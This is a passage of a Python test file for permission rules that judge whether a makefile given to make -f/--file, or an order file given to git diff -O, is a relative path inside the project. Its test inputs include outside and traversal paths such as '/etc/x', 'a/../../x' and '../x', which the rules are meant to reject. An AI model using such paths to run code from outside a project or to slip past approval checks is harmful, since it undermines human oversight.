    (["make", "-fMakefile.ci"], 1, "-f", True), (["make", "-f", "Makefile.ci"], 1, "-f", True),
    (["make", "-sf", "x.mk"], 1, "-f", True), (["make", "-sfx.mk"], 1, "-f", True),
    (["make", "-f/x", "a.mk"], 1, "-f", False),  # the attached value, not the next word
    (["make", "-fx", "/y"], 1, "-f", True),
    (["make", "all", "-f", "/x"], 2, "-f", False),  # the word after the option, not before
    (["make", "-f"], 1, "-f", False), (["make", "-f", "/etc/x"], 1, "-f", False),
    (["make", "-f", "a/../../x"], 1, "-f", False), (["make", "-f", "-"], 1, "-f", False),
    (["make", "--file=x.mk"], 1, "--file", True), (["make", "--file", "x.mk"], 1, "--file", True),
    (["make", "--file"], 1, "--file", False), (["make", "--file=../x"], 1, "--file", False),
    (["make", "all", "--file", "/x"], 2, "--file", False), (["make", "--file", "/x", "a"], 1, "--file", False),
])
def test_a_makefile_named_by_f_is_here_only_when_relative_and_inside(argv, k, entry, here):
    """`make -f Makefile.ci` is allowed with `make *`; a makefile outside, stdin or no value asks."""
    assert rules._makefile_here(argv, k, entry) is here


@pytest.mark.parametrize(("argv", "here"), [
    (["git", "diff", "-Oorder"], True), (["git", "diff", "-O", "order"], True),
    (["git", "diff", "-O/dev/zero"], False), (["git", "diff", "-O", "/x"], False),
    (["git", "diff", "-O/x", "a"], False), (["git", "diff", "-O", "~/x", "a"], False),
    (["git", "diff", "-Ox", "/y"], True),
    (["git", "diff", "-O"], True),  # no value: git fails; nothing is read
])
def test_an_order_file_is_here_only_when_relative_and_inside(argv, here):
    assert rules._order_file_here(argv, 2) is here
